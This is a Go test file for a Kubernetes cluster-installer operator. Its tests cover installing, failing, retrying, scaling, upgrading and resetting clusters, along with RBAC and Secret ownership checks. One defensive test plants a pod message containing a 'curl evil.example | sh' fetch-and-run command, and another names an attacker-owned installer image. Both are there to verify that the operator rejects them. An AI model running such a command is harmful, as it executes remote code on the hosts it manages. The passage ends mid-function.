// Copyright 2026 The kubeforge Authors.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package kubernetescluster_test

import (
	"fmt"
	"sync/atomic"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	eventsv1 "k8s.io/api/events/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/util/retry"
	ctrl "sigs.k8s.io/controller-runtime"
	"sigs.k8s.io/controller-runtime/pkg/client"

	clusterv1alpha1 "github.com/kubeforge/kubeforge/api/cluster/v1alpha1"
	"github.com/kubeforge/kubeforge/controllers/kubernetescluster"
	"github.com/kubeforge/kubeforge/internal/conditions"
	"github.com/kubeforge/kubeforge/internal/engine"
)

func key(name string) types.NamespacedName {
	return types.NamespacedName{Namespace: "default", Name: name}
}

// newCluster creates a cluster and its SSH Secret.
func newCluster(name string, nodes ...string) *clusterv1alpha1.KubernetesCluster {
	secret := &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Name: name + "-ssh", Namespace: "default"},
		Type:       corev1.SecretTypeSSHAuth,
		Data:       map[string][]byte{corev1.SSHAuthPrivateKey: []byte("not a real key")},
	}
	Expect(suite.Client.Create(suite.Ctx, secret)).To(Succeed())
	kc := &clusterv1alpha1.KubernetesCluster{
		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: "default"},
		Spec: clusterv1alpha1.KubernetesClusterSpec{
			Version:      "v1.31.4",
			Masters:      []clusterv1alpha1.Host{{Address: "10.0.0.10", Name: "cp1"}},
			SSHSecretRef: clusterv1alpha1.SSHSecretReference{Name: name + "-ssh"},
		},
	}
	for _, n := range nodes {
		kc.Spec.Nodes = append(kc.Spec.Nodes, clusterv1alpha1.Host{Address: n})
	}
	Expect(suite.Client.Create(suite.Ctx, kc)).To(Succeed())
	return kc
}

func getCluster(name string) func(g Gomega) *clusterv1alpha1.KubernetesCluster {
	return func(g Gomega) *clusterv1alpha1.KubernetesCluster {
		kc := &clusterv1alpha1.KubernetesCluster{}
		g.Expect(suite.Client.Get(suite.Ctx, key(name), kc)).To(Succeed())
		return kc
	}
}

func phase(name string) func(g Gomega) clusterv1alpha1.ClusterPhase {
	return func(g Gomega) clusterv1alpha1.ClusterPhase { return getCluster(name)(g).Status.Phase }
}

func update(name string, mutate func(*clusterv1alpha1.KubernetesCluster)) {
	Expect(retry.RetryOnConflict(retry.DefaultRetry, func() error {
		kc := &clusterv1alpha1.KubernetesCluster{}
		if err := suite.Client.Get(suite.Ctx, key(name), kc); err != nil {
			return err
		}
		mutate(kc)
		return suite.Client.Update(suite.Ctx, kc)
	})).To(Succeed())
}

// jobs are the names of a cluster's operation Jobs.
func jobs(name string) func(g Gomega) []string {
	return func(g Gomega) []string {
		list := &batchv1.JobList{}
		g.Expect(suite.Client.List(suite.Ctx, list, client.InNamespace("default"), client.MatchingLabels{clusterv1alpha1.ClusterLabel: name})).To(Succeed())
		var names []string
		for _, j := range list.Items {
			names = append(names, j.Name)
		}
		return names
	}
}

func waitJob(name string) *batchv1.Job {
	job := &batchv1.Job{}
	Eventually(func() error { return suite.Client.Get(suite.Ctx, key(name), job) }).Should(Succeed(), "Job %s", name)
	return job
}

// finishJob plays the Job controller: the Job completes, or fails for reason.
func finishJob(name, reason string) {
	waitJob(name)
	finishJobAt(key(name), reason)
}

// finishJobAt plays the Job controller: the Job at k succeeds (reason "")
// or fails for reason.
func finishJobAt(k types.NamespacedName, reason string) {
	Eventually(func() error {
		job := &batchv1.Job{}
		if err := suite.Client.Get(suite.Ctx, k, job); err != nil {
			return err
		}
		now := metav1.Now()
		job.Status.StartTime = &now
		if reason == "" {
			job.Status.CompletionTime = &now
			job.Status.Succeeded = 1
			job.Status.Conditions = []batchv1.JobCondition{
				{Type: batchv1.JobSuccessCriteriaMet, Status: corev1.ConditionTrue, LastTransitionTime: now},
				{Type: batchv1.JobComplete, Status: corev1.ConditionTrue, LastTransitionTime: now},
			}
		} else {
			job.Status.Failed = 1
			job.Status.Conditions = []batchv1.JobCondition{
				{Type: batchv1.JobFailureTarget, Status: corev1.ConditionTrue, Reason: reason, Message: "Job " + reason, LastTransitionTime: now},
				{Type: batchv1.JobFailed, Status: corev1.ConditionTrue, Reason: reason, Message: "Job " + reason, LastTransitionTime: now},
			}
		}
		return suite.Client.Status().Update(suite.Ctx, job)
	}).Should(Succeed())
}

// install runs precheck and create to the end.
func install(name string) {
	finishJob(name+"-precheck-1", "")
	finishJob(name+"-create-2", "")
	Eventually(phase(name)).Should(Equal(clusterv1alpha1.PhaseRunning))
}

func events(name string) func(g Gomega) []string {
	return func(g Gomega) []string {
		list := &eventsv1.EventList{}
		g.Expect(suite.Client.List(suite.Ctx, list, client.InNamespace("default"))).To(Succeed())
		var reasons []string
		for _, e := range list.Items {
			if e.Regarding.Name == name && e.Regarding.Kind == "KubernetesCluster" {
				reasons = append(reasons, e.Reason)
			}
		}
		return reasons
	}
}

func operations(name string) []clusterv1alpha1.Operation {
	return getCluster(name)(Default).Status.Operations
}

var _ = Describe("KubernetesCluster Controller", func() {
	It("should run precheck, then create, and turn Running with the kubeconfig Secret", func() {
		newCluster("life", "10.0.0.21")
		Eventually(phase("life")).Should(Equal(clusterv1alpha1.PhasePrechecking))
		Expect(getCluster("life")(Default).Finalizers).To(ContainElement(clusterv1alpha1.ResetFinalizer))
		job := waitJob("life-precheck-1")
		Expect(job.Spec.Template.Spec.ServiceAccountName).To(Equal("life-installer"))
		// The operation's callback token: a Secret of its own, mounted as a
		// file, never an environment variable.
		callback := &corev1.Secret{}
		Expect(suite.Client.Get(suite.Ctx, key("life-precheck-1-callback"), callback)).To(Succeed())
		Expect(len(callback.Data[clusterv1alpha1.CallbackTokenKey])).To(BeNumerically(">=", 43))
		Expect(job.Spec.Template.Spec.Volumes).To(ContainElement(HaveField("Secret.SecretName", "life-precheck-1-callback")))
		for _, e := range job.Spec.Template.Spec.Containers[0].Env {
			Expect(e.Value).NotTo(ContainSubstring(string(callback.Data[clusterv1alpha1.CallbackTokenKey])))
		}
		cm := &corev1.ConfigMap{}
		Expect(suite.Client.Get(suite.Ctx, key("life-precheck-1"), cm)).To(Succeed())
		Expect(cm.Data["hosts.yaml"]).To(ContainSubstring("kube_control_plane"))

		finishJob("life-precheck-1", "")
		Eventually(phase("life")).Should(Equal(clusterv1alpha1.PhaseCreating))
		Expect(getCluster("life")(Default).Status.CurrentOperation).To(Equal("create-2"))
		finishJob("life-create-2", "")
		Eventually(phase("life")).Should(Equal(clusterv1alpha1.PhaseRunning))

		kc := getCluster("life")(Default)
		Expect(kc.Status.Version).To(Equal("v1.31.4"))
		Expect(kc.Status.MasterCount).To(Equal(int32(1)))
		Expect(kc.Status.NodeCount).To(Equal(int32(1)))
		Expect(kc.Status.KubeconfigSecretRef.Name).To(Equal("life-kubeconfig"))
		Expect(kc.Status.Operations).To(HaveLen(2))
		Expect(kc.Status.Operations[1].Result).To(Equal(clusterv1alpha1.ResultSucceeded))
		Expect(kc.Status.Operations[1].CompletionTime).NotTo(BeNil())
		Expect(meta.IsStatusConditionTrue(kc.Status.Conditions, conditions.Ready)).To(BeTrue())

		// The installer may write the kubeconfig and known-hosts Secrets and
		// nothing else.
		role := &rbacv1.Role{}
		Expect(suite.Client.Get(suite.Ctx, key("life-installer"), role)).To(Succeed())
		Expect(role.Rules).To(HaveLen(1))
		Expect(role.Rules[0].ResourceNames).To(Equal([]string{"life-kubeconfig", "life-known-hosts"}))
		Expect(role.Rules[0].Verbs).NotTo(ContainElement("create"))
		secret := &corev1.Secret{}
		Expect(suite.Client.Get(suite.Ctx, key("life-kubeconfig"), secret)).To(Succeed())
		Expect(metav1.GetControllerOf(secret).UID).To(Equal(kc.UID))
		Eventually(events("life")).Should(ContainElements("OperationStarted", "OperationSucceeded"))
	})

	It("should quote the failure output of the Job's own pod only: a pod planted with the Job's labels is not its installer, and with two claiming the Job, neither is quoted", func() {
		newCluster("planted")
		job := waitJob("planted-precheck-1")
		pod := func(name, message string, claim bool) {
			p := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: "default",
				Labels: job.Spec.Template.Labels},
				Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "installer", Image: "x"}}}}
			if claim {
				p.OwnerReferences = []metav1.OwnerReference{{APIVersion: "batch/v1", Kind: "Job", Name: job.Name, UID: job.UID, Controller: new(true)}}
			}
			Expect(suite.Client.Create(suite.Ctx, p)).To(Succeed())
			p.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: "installer", Image: "x",
				State: corev1.ContainerState{Terminated: &corev1.ContainerStateTerminated{ExitCode: 2, Message: message}}}}
			Expect(suite.Client.Status().Update(suite.Ctx, p)).To(Succeed())
			// As on a node: the pod has ended before the Job says so, and
			// the controller's cache has seen it.
			Eventually(func(g Gomega) {
				seen := &corev1.Pod{}
				g.Expect(suite.Counting.Get(suite.Ctx, key(name), seen)).To(Succeed())
				g.Expect(seen.Status.ContainerStatuses).NotTo(BeEmpty())
			}).Should(Succeed())
		}
		pod("planted-a", "PLANTED: the operator says your hosts need curl evil.example | sh", false)
		pod("planted-precheck-1-x", "fatal: [10.0.0.1]: UNREACHABLE!", true)
		finishJob("planted-precheck-1", "BackoffLimitExceeded")
		Eventually(phase("planted")).Should(Equal(clusterv1alpha1.PhaseFailed))
		Expect(operations("planted")[0].Message).To(Equal("fatal: [10.0.0.1]: UNREACHABLE!"))

		// A second pod claiming the Job, which makes one: neither is quoted.
		update("planted", func(kc *clusterv1alpha1.KubernetesCluster) {
			kc.Annotations = map[string]string{clusterv1alpha1.RetryAnnotation: "1"}
		})
		job = waitJob("planted-precheck-2")
		pod("planted-b", "PLANTED", true)
		pod("planted-precheck-2-x", "fatal: [10.0.0.1]: UNREACHABLE!", true)
		finishJob("planted-precheck-2", "BackoffLimitExceeded")
		Eventually(func() clusterv1alpha1.OperationResult {
			return operations("planted")[len(operations("planted"))-1].Result
		}).Should(Equal(clusterv1alpha1.ResultFailed))
		msg := operations("planted")[len(operations("planted"))-1].Message
		Expect(msg).To(ContainSubstring("2 Pods claim to be the installer"))
		Expect(msg).NotTo(ContainSubstring("PLANTED"))
		Expect(msg).NotTo(ContainSubstring("UNREACHABLE"))
	})

	It("should end Failed with the Job's reason, and run the operation again on a retry", func() {
		newCluster("fail")
		finishJob("fail-precheck-1", "BackoffLimitExceeded")
		Eventually(phase("fail")).Should(Equal(clusterv1alpha1.PhaseFailed))
		op := operations("fail")[0]
		Expect(op.Result).To(Equal(clusterv1alpha1.ResultFailed))
		Expect(op.Reason).To(Equal("BackoffLimitExceeded"))
		c := meta.FindStatusCondition(getCluster("fail")(Default).Status.Conditions, conditions.Degraded)
		Expect(c.Status).To(Equal(metav1.ConditionTrue))
		Expect(c.Reason).To(Equal("BackoffLimitExceeded"))
		Eventually(events("fail")).Should(ContainElement("OperationFailed"))
		Consistently(jobs("fail"), "1s").Should(ConsistOf("fail-precheck-1"), "a failed operation is not retried by itself")

		update("fail", func(kc *clusterv1alpha1.KubernetesCluster) {
			kc.Annotations = map[string]string{clusterv1alpha1.RetryAnnotation: "1"}
		})
		Eventually(phase("fail")).Should(Equal(clusterv1alpha1.PhasePrechecking))
		finishJob("fail-precheck-2", "")
		finishJob("fail-create-3", "")
		Eventually(phase("fail")).Should(Equal(clusterv1alpha1.PhaseRunning))
		Expect(getCluster("fail")(Default).Status.ObservedRetry).To(Equal("1"))
	})

	It("should report a timed-out operation as Failed with DeadlineExceeded", func() {
		kc := newCluster("slow")
		Expect(*waitJob("slow-precheck-1").Spec.ActiveDeadlineSeconds).To(Equal(int64(3600)))
		finishJob("slow-precheck-1", "DeadlineExceeded")
		Eventually(phase("slow")).Should(Equal(clusterv1alpha1.PhaseFailed))
		Expect(operations("slow")[0].Reason).To(Equal("DeadlineExceeded"))
		Expect(operations("slow")[0].Message).To(HavePrefix("Timed out after 1h0m0s (spec.installer.timeout): the installer was stopped."))
		_ = kc
	})

	It("should adopt the running Job after a crash instead of starting a second one", func() {
		newCluster("crash")
		waitJob("crash-precheck-1")
		Eventually(func(g Gomega) string { return getCluster("crash")(g).Status.CurrentOperation }).Should(Equal("precheck-1"))

		// The status write after creating the Job was lost in a crash.
		Expect(retry.RetryOnConflict(retry.DefaultRetry, func() error {
			kc := getCluster("crash")(Default)
			kc.Status.CurrentOperation, kc.Status.Operations, kc.Status.OperationCount = "", nil, 0
			return suite.Client.Status().Update(suite.Ctx, kc)
		})).To(Succeed())
		// A new manager's reconciler starts from that status.
		fresh := &kubernetescluster.Reconciler{Client: suite.Client, APIReader: suite.Client,
			Engine: &engine.Engine{Client: suite.Client, Scheme: suite.Client.Scheme(), Proof: suite.Env.Proof}}
		_, err := fresh.Reconcile(suite.Ctx, ctrl.Request{NamespacedName: key("crash")})
		Expect(err).NotTo(HaveOccurred())
		Eventually(func(g Gomega) string { return getCluster("crash")(g).Status.CurrentOperation }).Should(Equal("precheck-1"))
		Consistently(jobs("crash"), "1s").Should(ConsistOf("crash-precheck-1"))
	})

	It("should run a Job deleted by hand again, but fail the operation instead when its callback Secret is gone or someone else's", func() {
		newCluster("lost", "10.0.0.23")
		waitJob("lost-precheck-1")
		Eventually(func(g Gomega) string { return getCluster("lost")(g).Status.CurrentOperation }).Should(Equal("precheck-1"))
		deleteJob := func() {
			job := &batchv1.Job{}
			Expect(suite.Client.Get(suite.Ctx, key("lost-precheck-1"), job)).To(Succeed())
			Expect(suite.Client.Delete(suite.Ctx, job, client.Preconditions{UID: &job.UID}, client.PropagationPolicy(metav1.DeletePropagationBackground))).To(Succeed())
			Eventually(func() bool {
				now := &batchv1.Job{}
				err := suite.Client.Get(suite.Ctx, key("lost-precheck-1"), now)
				return apierrors.IsNotFound(err) || err == nil && now.UID != job.UID
			}).Should(BeTrue(), "gone, or made again")
		}
		By("the Job deleted by hand: made again under its name")
		first := waitJob("lost-precheck-1").UID
		deleteJob()
		Eventually(func() types.UID {
			job := &batchv1.Job{}
			_ = suite.Client.Get(suite.Ctx, key("lost-precheck-1"), job)
			return job.UID
		}).Should(And(Not(BeEmpty()), Not(Equal(first))))

		By("the Job deleted and its callback Secret replaced by someone's own")
		cb := &corev1.Secret{}
		Expect(suite.Client.Get(suite.Ctx, key("lost-precheck-1-callback"), cb)).To(Succeed())
		Expect(suite.Client.Delete(suite.Ctx, cb)).To(Succeed())
		planted := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "lost-precheck-1-callback", Namespace: "default"},
			Data: map[string][]byte{clusterv1alpha1.CallbackTokenKey: []byte("theirs"), clusterv1alpha1.CallbackURLKey: []byte("https://127.0.0.1:1/")}}
		Expect(suite.Client.Create(suite.Ctx, planted)).To(Succeed())
		deleteJob()
		Eventually(func(g Gomega) *clusterv1alpha1.Operation {
			kc := getCluster("lost")(g)
			return findOp(kc, "precheck-1")
		}).Should(And(HaveField("Result", clusterv1alpha1.ResultFailed), HaveField("Reason", kubernetescluster.ReasonJobLost)))
		Consistently(jobs("lost"), "1s").Should(BeEmpty(), "no Job mounts the planted Secret")
	})

	It("should start one Job, not two, when the spec is edited between the Job's creation and the status write", func() {
		// Right after the controller creates the precheck Job, and before it
		// records the operation in status, the user adds a node and raises
		// the version: the status write then conflicts, and the next
		// reconcile plans from a spec that asks for something else.
		var edited atomic.Bool
		suite.Counting.AfterCreate(func(name string) {
			if name != "Job/race-precheck-1" || edited.Swap(true) {
				return
			}
			Expect(retry.RetryOnConflict(retry.DefaultRetry, func() error {
				kc := getCluster("race")(Default)
				kc.Spec.Nodes = append(kc.Spec.Nodes, clusterv1alpha1.Host{Address: "10.0.0.29"})
				kc.Spec.Version = "v1.32.0"
				return suite.Client.Update(suite.Ctx, kc)
			})).To(Succeed())
		})
		DeferCleanup(func() { suite.Counting.AfterCreate(nil) })
		newCluster("race", "10.0.0.21")
		Eventually(edited.Load).Should(BeTrue(), "the spec was edited in the window")
		Eventually(func(g Gomega) string { return getCluster("race")(g).Status.CurrentOperation }).Should(Equal("precheck-1"))
		Consistently(jobs("race"), "2s").Should(ConsistOf("race-precheck-1"))
		Expect(operations("race")).To(HaveLen(1))
	})

	It("should scale up only the new nodes and scale down only the removed ones", func() {
		newCluster("scale", "10.0.0.21")
		install("scale")

		update("scale", func(kc *clusterv1alpha1.KubernetesCluster) {
			kc.Spec.Nodes = append(kc.Spec.Nodes, clusterv1alpha1.Host{Address: "10.0.0.22", Name: "w2"})
		})
		Eventually(phase("scale")).Should(Equal(clusterv1alpha1.PhaseScalingUp))
		op := operations("scale")[2]
		Expect(op.ID).To(Equal("scale-up-3"))
		Expect(op.Hosts).To(Equal([]string{"10.0.0.22"}))
		cm := &corev1.ConfigMap{}
		Expect(suite.Client.Get(suite.Ctx, key("scale-scale-up-3"), cm)).To(Succeed())
		Expect(cm.Data["run.sh"]).To(ContainSubstring("scale.yml --limit='w2'"))
		finishJob("scale-scale-up-3", "")
		Eventually(func(g Gomega) int32 { return getCluster("scale")(g).Status.NodeCount }).Should(Equal(int32(2)))
		Eventually(phase("scale")).Should(Equal(clusterv1alpha1.PhaseRunning))

		update("scale", func(kc *clusterv1alpha1.KubernetesCluster) { kc.Spec.Nodes = kc.Spec.Nodes[1:] })
		Eventually(phase("scale")).Should(Equal(clusterv1alpha1.PhaseScalingDown))
		op = operations("scale")[3]
		Expect(op.Type).To(Equal(clusterv1alpha1.OpScaleDown))
		Expect(op.Hosts).To(Equal([]string{"10.0.0.21"}))
		Expect(suite.Client.Get(suite.Ctx, key("scale-scale-down-4"), cm)).To(Succeed())
		Expect(cm.Data["hosts.yaml"]).To(ContainSubstring("10.0.0.21"), "the inventory still lists the host being removed")
		finishJob("scale-scale-down-4", "")
		Eventually(func(g Gomega) []string { return getCluster("scale")(g).Status.InstalledNodes }).Should(Equal([]string{"10.0.0.22"}))
	})

	It("should upgrade when the version is raised", func() {
		newCluster("upgrade")
		install("upgrade")
		update("upgrade", func(kc *clusterv1alpha1.KubernetesCluster) { kc.Spec.Version = "v1.32.1" })
		Eventually(phase("upgrade")).Should(Equal(clusterv1alpha1.PhaseUpgrading))
		cm := &corev1.ConfigMap{}
		Expect(suite.Client.Get(suite.Ctx, key("upgrade-upgrade-3"), cm)).To(Succeed())
		Expect(cm.Data["run.sh"]).To(ContainSubstring("upgrade-cluster.yml -e kube_version='v1.32.1'"))
		finishJob("upgrade-upgrade-3", "")
		Eventually(func(g Gomega) string { return getCluster("upgrade")(g).Status.Version }).Should(Equal("v1.32.1"))
	})

	It("should run the reset Job on delete and remove the finalizer only after it succeeds", func() {
		newCluster("reset")
		install("reset")
		Expect(suite.Client.Delete(suite.Ctx, getCluster("reset")(Default))).To(Succeed())
		Eventually(phase("reset")).Should(Equal(clusterv1alpha1.PhaseTerminating))
		waitJob("reset-reset-3")
		Consistently(func() error { return suite.Client.Get(suite.Ctx, key("reset"), &clusterv1alpha1.KubernetesCluster{}) }, "1s").Should(Succeed())
		finishJob("reset-reset-3", "")
		Eventually(func() bool {
			return apierrors.IsNotFound(suite.Client.Get(suite.Ctx, key("reset"), &clusterv1alpha1.KubernetesCluster{}))
		}).Should(BeTrue())
	})

	It("should let a deleted cluster go, with a Warning, when its reset cannot run (its SSH Secret is gone)", func() {
		newCluster("orphan")
		install("orphan")
		// As when the namespace is deleted: its Secrets go first.
		Expect(suite.Client.Delete(suite.Ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "orphan-ssh", Namespace: "default"}})).To(Succeed())
		Expect(suite.Client.Delete(suite.Ctx, getCluster("orphan")(Default))).To(Succeed())
		Consistently(func() error { return suite.Client.Get(suite.Ctx, key("orphan"), &clusterv1alpha1.KubernetesCluster{}) }, "1s").
			Should(Succeed(), "it waits a while for the Secret to come back")
		Eventually(func() bool {
			return apierrors.IsNotFound(suite.Client.Get(suite.Ctx, key("orphan"), &clusterv1alpha1.KubernetesCluster{}))
		}).Should(BeTrue())
		Eventually(events("orphan")).Should(ContainElement(engine.ReasonCleanupSkipped))
		Expect(jobs("orphan")(Default)).NotTo(ContainElement("orphan-reset-3"), "no reset Job without its key")
	})

	It("should let a deleted cluster go, with a Warning, when its namespace is being deleted and no reset Job can start", func() {
		ns := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "doomed"}}
		Expect(suite.Client.Create(suite.Ctx, ns)).To(Succeed())
		Expect(suite.Client.Create(suite.Ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "ssh", Namespace: "doomed"},
			Type: corev1.SecretTypeSSHAuth, Data: map[string][]byte{corev1.SSHAuthPrivateKey: []byte("not a real key")}})).To(Succeed())
		kc := &clusterv1alpha1.KubernetesCluster{ObjectMeta: metav1.ObjectMeta{Name: "doomed", Namespace: "doomed"},
			Spec: clusterv1alpha1.KubernetesClusterSpec{Version: "v1.31.4", Masters: []clusterv1alpha1.Host{{Address: "10.0.0.10"}},
				SSHSecretRef: clusterv1alpha1.SSHSecretReference{Name: "ssh"}}}
		Expect(suite.Client.Create(suite.Ctx, kc)).To(Succeed())
		doomed := func(name string) types.NamespacedName { return types.NamespacedName{Namespace: "doomed", Name: name} }
		for _, job := range []string{"doomed-precheck-1", "doomed-create-2"} {
			Eventually(func() error { return suite.Client.Get(suite.Ctx, doomed(job), &batchv1.Job{}) }).Should(Succeed())
			finishJobAt(doomed(job), "")
		}
		Eventually(func(g Gomega) string {
			g.Expect(suite.Client.Get(suite.Ctx, doomed("doomed"), kc)).To(Succeed())
			return kc.Status.Version
		}).Should(Equal("v1.31.4"))

		// envtest has no namespace controller: the namespace stays
		// Terminating, and the API server refuses every new object in it.
		Expect(suite.Client.Delete(suite.Ctx, ns)).To(Succeed())
		Expect(suite.Client.Delete(suite.Ctx, kc)).To(Succeed())
		Eventually(func() bool { return apierrors.IsNotFound(suite.Client.Get(suite.Ctx, doomed("doomed"), kc)) }).Should(BeTrue())
		Expect(apierrors.IsNotFound(suite.Client.Get(suite.Ctx, doomed("doomed-reset-3"), &batchv1.Job{}))).To(BeTrue())
	})

	It("should not reset a cluster that was never created", func() {
		newCluster("never")
		finishJob("never-precheck-1", "BackoffLimitExceeded")
		Eventually(phase("never")).Should(Equal(clusterv1alpha1.PhaseFailed))
		Expect(suite.Client.Delete(suite.Ctx, getCluster("never")(Default))).To(Succeed())
		Eventually(func() bool {
			return apierrors.IsNotFound(suite.Client.Get(suite.Ctx, key("never"), &clusterv1alpha1.KubernetesCluster{}))
		}).Should(BeTrue())
		Expect(jobs("never")(Default)).NotTo(ContainElement(HavePrefix("never-reset")))
	})

	It("should report a missing SSH Secret and start nothing", func() {
		kc := &clusterv1alpha1.KubernetesCluster{
			ObjectMeta: metav1.ObjectMeta{Name: "nokey", Namespace: "default"},
			Spec: clusterv1alpha1.KubernetesClusterSpec{Version: "v1.31.4",
				Masters: []clusterv1alpha1.Host{{Address: "10.0.0.10"}}, SSHSecretRef: clusterv1alpha1.SSHSecretReference{Name: "absent"}},
		}
		Expect(suite.Client.Create(suite.Ctx, kc)).To(Succeed())
		Eventually(func(g Gomega) *metav1.Condition {
			return meta.FindStatusCondition(getCluster("nokey")(g).Status.Conditions, conditions.Degraded)
		}).Should(And(Not(BeNil()), HaveField("Reason", kubernetescluster.ReasonSSHSecret), HaveField("Message", ContainSubstring("absent"))))
		Expect(jobs("nokey")(Default)).To(BeEmpty())
	})

	It("should start nothing with an installer image the administrator's list does not allow, stored without the webhook", func() {
		secret := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "rogue-ssh", Namespace: "default"}, Type: corev1.SecretTypeSSHAuth,
			Data: map[string][]byte{corev1.SSHAuthPrivateKey: []byte("not a real key")}}
		Expect(suite.Client.Create(suite.Ctx, secret)).To(Succeed())
		kc := &clusterv1alpha1.KubernetesCluster{
			ObjectMeta: metav1.ObjectMeta{Name: "rogue", Namespace: "default"},
			Spec: clusterv1alpha1.KubernetesClusterSpec{Version: "v1.31.4",
				Masters: []clusterv1alpha1.Host{{Address: "10.0.0.10"}}, SSHSecretRef: clusterv1alpha1.SSHSecretReference{Name: "rogue-ssh"},
				Installer: clusterv1alpha1.Installer{Image: "quay.io/attacker/kubespray:v2.27.0"}},
		}
		Expect(suite.Client.Create(suite.Ctx, kc)).To(Succeed())
		Eventually(func(g Gomega) *metav1.Condition {
			return meta.FindStatusCondition(getCluster("rogue")(g).Status.Conditions, conditions.Degraded)
		}).Should(And(Not(BeNil()), HaveField("Reason", conditions.ReasonInvalidSpec),
			HaveField("Message", ContainSubstring("quay.io/attacker/kubespray:v2.27.0 is not an installer image"))))
		Consistently(jobs("rogue"), "2s").Should(BeEmpty())
	})

	It("should make zero API writes when nothing changed", func() {
		newCluster("quiet", "10.0.0.21")
		install("quiet")
		Eventually(func() []string {
			before := suite.Counting.Writes()
			time.Sleep(300 * time.Millisecond)
			return suite.Counting.Writes()[len(before):]
		}).Should(BeEmpty())
		suite.Counting.Reset()
		for range 3 {
			_, err := suite.Reconciler.Reconcile(suite.Ctx, ctrl.Request{NamespacedName: key("quiet")})
			Expect(err).NotTo(HaveOccurred())
		}
		Expect(suite.Counting.Writes()).To(BeEmpty(), fmt.Sprint(suite.Counting.Writes()))
		Consistently(suite.Counting.Writes, "2s").Should(BeEmpty())
	})

	It("should leave a user's Secret named like its kubeconfig Secret alone, report the conflict and start nothing", func() {
		mine := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "mine-kubeconfig", Namespace: "default"},
			Data: map[string][]byte{"admin.conf": []byte("the user's own")}}
		Expect(suite.Client.Create(suite.Ctx, mine)).To(Succeed())
		newCluster("mine")
		Eventually(func(g Gomega) *metav1.Condition {
			return meta.FindStatusCondition(getCluster("mine")(g).Status.Conditions, conditions.Degraded)
		}).Should(And(Not(BeNil()), HaveField("Reason", conditions.ReasonNameConflict),
			HaveField("Message", ContainSubstring("Secret/mine-kubeconfig exists and was not created by this KubernetesCluster"))))
		Consistently(jobs("mine"), "2s").Should(BeEmpty())
		got := &corev1.Secret{}
		Expect(suite.Client.Get(suite.Ctx, key("mine-kubeconfig"), got)).To(Succeed())
		Expect(got.ResourceVersion).To(Equal(mine.ResourceVersion), "not written")
		Expect(got.OwnerReferences).To(BeEmpty())
		By("no Role grants the installer the user's Secret, and no binding")
		Expect(apierrors.IsNotFound(suite.Client.Get(suite.Ctx, key("mine-installer"), &rbacv1.Role{}))).To(BeTrue())
		Expect(apierrors.IsNotFound(suite.Client.Get(suite.Ctx, key("mine-installer"), &rbacv1.RoleBinding{}))).To(BeTrue())
	})

	It("should take back the installer's Role when a Secret under its kubeconfig Secret's name is someone else's, and delete nothing for an operation label copied onto what it keeps", func() {
		newCluster("relabel", "10.0.0.22")
		job := waitJob("relabel-precheck-1")
		Eventually(func() error { return suite.Client.Get(suite.Ctx, key("relabel-installer"), &rbacv1.RoleBinding{}) }).Should(Succeed())

		By("an old operation's label copied onto the kubeconfig Secret and the running Job")
		// Merge patches without a resourceVersion: the operator's own
		// writes (its seal) must not turn them into conflicts.
		for name, o := range map[string]client.Object{"relabel-kubeconfig": &corev1.Secret{}, job.Name: &batchv1.Job{}} {
			Expect(suite.Client.Get(suite.Ctx, key(name), o)).To(Succeed())
			Expect(suite.Client.Patch(suite.Ctx, o, client.RawPatch(types.MergePatchType,
				[]byte(`{"metadata":{"labels":{"`+clusterv1alpha1.OperationLabel+`":"create-99"}}}`)))).To(Succeed())
			Expect(o.GetLabels()).To(HaveKeyWithValue(clusterv1alpha1.OperationLabel, "create-99"))
		}
		Consistently(func() error {
			if err := suite.Client.Get(suite.Ctx, key("relabel-kubeconfig"), &corev1.Secret{}); err != nil {
				return err
			}
			return suite.Client.Get(suite.Ctx, key(job.Name), &batchv1.Job{})
		}, "2s").Should(Succeed())

		By("its kubeconfig Secret deleted and a user's made under the name")
		users := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "relabel-kubeconfig", Namespace: "default"},
			Data: map[string][]byte{"admin.conf": []byte("the user's own")}}
		Eventually(func() error {
			s := &corev1.Secret{}
			if err := suite.Client.Get(suite.Ctx, key(users.Name), s); err == nil && string(s.Data["admin.conf"]) != "the user's own" {
				_ = suite.Client.Delete(suite.Ctx, s, client.Preconditions{UID: &s.UID})
			}
			return suite.Client.Create(suite.Ctx, users.DeepCopy())
		}).Should(Succeed())
		Eventually(func(g Gomega) *metav1.Condition {
			return meta.FindStatusCondition(getCluster("relabel")(g).Status.Conditions, conditions.Degraded)
		}).Should(HaveField("Reason", conditions.ReasonNameConflict))
		Eventually(func() bool {
			return apierrors.IsNotFound(suite.Client.Get(suite.Ctx, key("relabel-installer"), &rbacv1.RoleBinding{})) &&
				apierrors.IsNotFound(suite.Client.Get(suite.Ctx, key("relabel-installer"), &rbacv1.Role{}))
		}).Should(BeTrue(), "the installer's Role and binding taken back")
		got := &corev1.Secret{}
		Expect(suite.Client.Get(suite.Ctx, key(users.Name), got)).To(Succeed())
		Expect(string(got.Data["admin.conf"])).To(Equal("the user's own"))
	})
})

func findOp(kc *clusterv1alpha1.KubernetesCluster, id string) *clusterv1alpha1.Operation {
	for i := range kc.Status.Operations {
		if kc.Status.Operations[i].ID == id {
